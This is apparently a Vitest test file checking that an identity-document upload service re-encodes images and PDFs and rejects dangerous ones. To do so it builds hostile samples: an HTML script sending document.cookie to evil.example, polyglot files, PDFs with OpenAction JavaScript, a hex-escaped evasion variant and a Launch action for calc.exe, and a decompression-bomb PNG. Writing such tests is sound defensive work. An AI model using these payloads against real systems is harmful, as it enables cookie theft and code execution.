import { crc32 } from 'node:zlib';
import { beforeAll, describe, expect, it } from 'vitest';
import type { TIdentityDocument } from '@pledge/contract';
import { IDENTITY_MESSAGES } from '@pledge/domain';
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
import sharp from 'sharp';
import { opsCall, opsPath, signInAgent, type TAgent } from '../ops/helpers.js';
import { picture, plainPdf } from './helpers.js';
import { useIdentityUploadApp } from './identity-upload-kit.js';

const kit = useIdentityUploadApp('identity-uploads-decoded-test');
const { borrowerAtFinalSteps, uploadFor } = kit;

/** A PNG whose header declares another size (CRC fixed): what a decompression bomb looks like. */
function withDeclaredSize(png: Buffer, width: number, height: number): Buffer {
  const patched = Buffer.from(png);
  // Signature (8), IHDR length (4), "IHDR" (4), then width and height; the CRC follows the data.
  patched.writeUInt32BE(width, 16);
  patched.writeUInt32BE(height, 20);
  patched.writeUInt32BE(crc32(patched.subarray(12, 29)), 29);
  return patched;
}

async function pdfWith(change: (pdf: PDFDocument) => Promise<void> | void): Promise<Buffer> {
  const pdf = await PDFDocument.create();
  pdf.addPage([300, 200]).drawText('PASSPORT P1234567', { x: 20, y: 100, size: 12 });
  await change(pdf);
  return Buffer.from(await pdf.save({ useObjectStreams: false }));
}

const openActionScript = (pdf: PDFDocument) => {
  pdf.catalog.set(
    PDFName.of('OpenAction'),
    pdf.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of('app.alert(1)') }),
  );
};

const HTML = '<html><body><script>fetch("https://evil.example/?c="+document.cookie)</script>';

describe('uploads are decoded for real', () => {
  let agent: TAgent;
  /** Refused uploads store nothing: one borrower serves every refusal. */
  let refused: Awaited<ReturnType<typeof borrowerAtFinalSteps>>;
  beforeAll(async () => {
    agent = await signInAgent(kit.context);
    refused = await borrowerAtFinalSteps();
  });

  function documentPart(value: Buffer, fileName: string) {
    return { document: { name: 'document', value, fileName } } as const;
  }

  /** The stored file as an agent downloads it. */
  async function download(appUuid: string, documentUuid: string) {
    const response = await opsCall(
      kit.context.app,
      'GET',
      opsPath(`/${appUuid}/identity-documents/${documentUuid}`),
      agent.token,
    );
    expect(response.statusCode).toBe(200);
    return response;
  }

  it.each([
    ['a PNG followed by an HTML page', 'png', 'x.html', 'image/png'],
    ['a JPEG followed by an HTML page', 'jpeg', 'x.html', 'image/jpeg'],
    ['a PNG with a PDF and HTML appended (a polyglot)', 'png-pdf', 'id.pdf.png', 'image/png'],
  ] as const)(
    'keeps only the re-encoded picture of %s, served under a server-chosen name',
    async (_name, kind, fileName, contentType) => {
      const borrower = await borrowerAtFinalSteps();
      const image = await picture(kind === 'jpeg' ? 'jpeg' : 'png');
      const tail =
        kind === 'png-pdf'
          ? Buffer.concat([await plainPdf(), Buffer.from(HTML)])
          : Buffer.from(HTML);
      const response = await uploadFor(borrower, {
        fileName: { name: 'fileName', value: fileName },
        ...documentPart(Buffer.concat([image, tail]), fileName),
      });
      expect(response.statusCode).toBe(201);
      const document = response.json() as TIdentityDocument;
      expect(document.contentType).toBe(contentType);

      const file = await download(borrower.appUuid, document.uuid);
      expect(file.headers['content-type']).toBe(contentType);
      const extension = contentType === 'image/png' ? 'png' : 'jpg';
      expect(file.headers['content-disposition']).toBe(
        `attachment; filename="identity-document-${document.uuid}.${extension}"; filename*=UTF-8''identity-document-${document.uuid}.${extension}`,
      );
      expect(file.headers['x-content-type-options']).toBe('nosniff');
      expect(file.rawPayload.includes(Buffer.from('<html'))).toBe(false);
      expect(file.rawPayload.includes(Buffer.from('%PDF'))).toBe(false);
      expect(file.rawPayload.length).toBe(document.sizeBytes);
      const served = await sharp(file.rawPayload).metadata();
      expect(served).toMatchObject({ format: kind === 'jpeg' ? 'jpeg' : 'png', width: 64 });
    },
  );

  it('drops the metadata of a picture (EXIF with its location)', async () => {
    const borrower = await borrowerAtFinalSteps();
    const tagged = await sharp(await picture('jpeg'))
      .withExif({ IFD0: { Artist: 'GPS-48.8584N-2.2945E' } })
      .jpeg()
      .toBuffer();
    expect(tagged.includes(Buffer.from('GPS-48.8584N'))).toBe(true);
    const response = await uploadFor(borrower, documentPart(tagged, 'photo.jpg'));
    expect(response.statusCode).toBe(201);
    const file = await download(borrower.appUuid, (response.json() as TIdentityDocument).uuid);
    expect(file.rawPayload.includes(Buffer.from('GPS-48.8584N'))).toBe(false);
  });

  it('writes an accepted PDF anew, without what was appended after its end', async () => {
    const borrower = await borrowerAtFinalSteps();
    const response = await uploadFor(borrower, {
      ...documentPart(Buffer.concat([await plainPdf(), Buffer.from(HTML)]), 'x.html'),
      fileName: { name: 'fileName', value: 'x.html' },
    });
    expect(response.statusCode).toBe(201);
    const document = response.json() as TIdentityDocument;
    expect(document).toMatchObject({ contentType: 'application/pdf', fileName: 'x.html' });
    const file = await download(borrower.appUuid, document.uuid);
    expect(file.headers['content-type']).toBe('application/pdf');
    expect(file.headers['content-disposition']).toContain(
      `filename="identity-document-${document.uuid}.pdf"`,
    );
    expect(file.rawPayload.includes(Buffer.from('<html'))).toBe(false);
    expect((await PDFDocument.load(file.rawPayload)).getPageCount()).toBe(1);
  });

  it.each([
    ['an OpenAction script', () => pdfWith(openActionScript)],
    [
      'an OpenAction script with its names hex-escaped in lower case',
      async () => {
        const text = (await pdfWith(openActionScript)).toString('latin1');
        return Buffer.from(
          text.replace('/OpenAction', '/#4fpenAction').replace('/JavaScript', '/#4aavaScript'),
          'latin1',
        );
      },
    ],
    [
      'a page action (AA) that launches a program',
      () =>
        pdfWith((pdf) => {
          const page = pdf.getPage(0);
          page.node.set(
            PDFName.of('AA'),
            pdf.context.obj({ O: { S: 'Launch', F: PDFString.of('calc.exe') } }),
          );
        }),
    ],
    [
      'embedded files',
      () =>
        pdfWith(async (pdf) => {
          await pdf.attach(Buffer.from(HTML), 'invoice.html', { mimeType: 'text/html' });
        }),
    ],
    [
      'a JavaScript name tree',
      () =>
        pdfWith((pdf) => {
          const script = pdf.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(2)') });
          pdf.catalog.set(
            PDFName.of('Names'),
            pdf.context.obj({ JavaScript: { Names: [PDFString.of('a'), script] } }),
          );
        }),
    ],
  ])('refuses a PDF with %s', async (_name, make) => {
    const borrower = refused;
    const response = await uploadFor(borrower, documentPart(await make(), 'id.pdf'));
    expect(response.statusCode).toBe(400);
    expect(response.json()).toMatchObject({
      fieldErrors: { document: [IDENTITY_MESSAGES.pdfActiveContent] },
    });
    const rows = await kit.storedDocuments(borrower.appUuid);
    expect(rows).toEqual([]);
  });

  it.each([
    [
      'a PDF that cannot be parsed',
      async () => Buffer.from(`%PDF-1.7\n${HTML}`),
      IDENTITY_MESSAGES.pdfUnreadable,
    ],
    [
      'a truncated PNG',
      async () => (await picture('png', { width: 400, height: 300 })).subarray(0, 120),
      IDENTITY_MESSAGES.imageUnreadable,
    ],
    [
      'a JPEG header with HTML after it',
      async () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from(HTML)]),
      IDENTITY_MESSAGES.imageUnreadable,
    ],
    [
      'a PNG that declares 100 megapixels (a decompression bomb)',
      async () => withDeclaredSize(await picture('png'), 10_000, 10_000),
      IDENTITY_MESSAGES.imageTooLarge,
    ],
  ])('refuses %s with a message on the file', async (_name, make, message) => {
    const borrower = refused;
    const response = await uploadFor(borrower, documentPart(await make(), 'id.bin'));
    expect(response.statusCode).toBe(400);
    expect(response.json()).toMatchObject({ fieldErrors: { document: [message] } });
  });
});
